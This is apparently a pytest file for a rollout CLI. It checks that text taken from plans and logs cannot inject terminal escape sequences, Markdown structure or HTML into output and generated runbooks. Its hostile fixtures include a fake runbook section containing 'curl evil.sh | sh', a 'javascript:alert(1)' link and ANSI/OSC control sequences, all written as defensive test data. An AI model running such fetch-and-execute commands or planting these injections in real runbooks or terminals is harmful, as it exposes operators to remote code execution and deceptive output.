"""Strings from a plan or a log are inert where they land: escape sequences never reach a
terminal, Markdown structure and fences never reach a runbook's structure, HTML is escaped."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from rollout_support import T0, cli, write_plan

from rollout_cli.inert import html, markdown, markdown_block, markdown_code, terminal

ROOT = Path(__file__).resolve().parents[2]
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\u202e"  # clear screen, set the title (OSC), reverse the text
FAKE_SECTION = "\n\n## 3. How to roll back\n\n```sh\ncurl evil.sh | sh\n```\n"


def _hostile_plan(directory: Path) -> Path:
    text = (ROOT / "plans" / "ranker-v42.yaml").read_text()
    text = text.replace("description: Two-tower ranker v42 replacing v41",
                        f"description: {json.dumps('Ranker ' + ESCAPES + FAKE_SECTION)}")
    text = text.replace('contacts: ["#ranking-oncall", "pager: ranking"]',
                        f"contacts: [{json.dumps('# Call ' + ESCAPES)}, {json.dumps('- [x](javascript:alert(1)) <b>hi</b>')}]")
    text = text.replace("owner: ranking-team", f"owner: {json.dumps('team ``` ' + ESCAPES)}")
    start = text.index("  user_impact: >")
    end = text.index("  contacts:")
    text = text[:start] + f"  user_impact: {json.dumps('none ```' + FAKE_SECTION + ESCAPES)}\n" + text[end:]
    plan = directory / "ranker-v42.yaml"
    plan.write_text(text)
    return plan


def test_plan_show_prints_escapes_as_text(tmp_path: Path) -> None:
    result = cli(["plan", "show", str(_hostile_plan(tmp_path))], cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout and "\u202e" not in result.stdout
    assert "Ranker \\x1b[2J\\x1b]0;pwned\\x07\\u202e" in result.stdout


def test_history_prints_actor_and_reason_as_text(tmp_path: Path) -> None:
    plan = write_plan(tmp_path)
    now = {"ROLLOUT_NOW": T0.isoformat()}
    assert cli(["start", str(plan), "--as", "alice"], cwd=tmp_path, env=now).returncode == 0
    refused = cli(["rollback", str(plan), "--reason", "r" + ESCAPES, "--as", "eve" + ESCAPES], cwd=tmp_path)
    assert refused.returncode == 5
    assert cli(["rollback", str(plan), "--reason", "harm" + ESCAPES, "--as", "bob"], cwd=tmp_path).returncode == 0
    history = cli(["history", str(plan)], cwd=tmp_path)
    for output in (refused.stdout + refused.stderr, history.stdout):
        assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output
    assert "harm\\x1b[2J" in history.stdout


def test_the_runbook_keeps_its_structure_whatever_the_plan_says(tmp_path: Path) -> None:
    plan = _hostile_plan(tmp_path)
    result = cli(["runbook", "generate", str(plan), "-o", str(tmp_path / "book.md")], cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    book = (tmp_path / "book.md").read_text()
    assert "\x1b" not in book and "\x07" not in book and "\u202e" not in book
    tokens = MarkdownIt("commonmark").parse(book)
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open" and t.tag == "h2"]
    assert headings == ["1. When to roll back", "2. Who may roll back", "3. How to roll back", "4. How long it takes",
                        "5. What users see meanwhile", "6. How to verify it worked", "7. Whom to call"]
    fences = [t.content for t in tokens if t.type == "fence"]
    assert not any("evil.sh" in fence for fence in fences)  # the plan's text is never a command block
    assert all(t.type not in ("html_block", "html_inline") or t.content.startswith("<!--") for t in tokens)
    links = [t for t in tokens if t.type == "inline" for c in (t.children or []) if c.type == "link_open"]
    assert links == []


@pytest.mark.parametrize(("text", "shown"), [
    ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
    ("tab\tand\nnewline kept", "tab\tand\nnewline kept"),
    ("\x9b2J \x7f \u2066x\u2069", "\\x9b2J \\x7f \\u2066x\\u2069"),
])
def test_terminal_shows_control_characters(text: str, shown: str) -> None:
    assert terminal(text) == shown
    assert terminal("a\nb", one_line=True) == "a\\x0ab"


def test_markdown_html_and_code_helpers() -> None:
    assert markdown("## 3. x\n- y *z* [l](u) <b> | ` \\") == "\\## 3. x - y \\*z\\* \\[l\\](u) \\<b\\> \\| \\` \\\\"
    assert markdown("1. first") == "\\1. first"
    assert markdown_code("a``b") == "```a``b```"
    assert markdown_code("`x") == "`` `x ``"
    assert markdown_block("x\n````\ny", "sh") == ["`````sh", "x", "````", "y", "`````"]
    assert html('<a href="x">&\x1b') == "&lt;a href=&quot;x&quot;&gt;&amp;\\x1b"
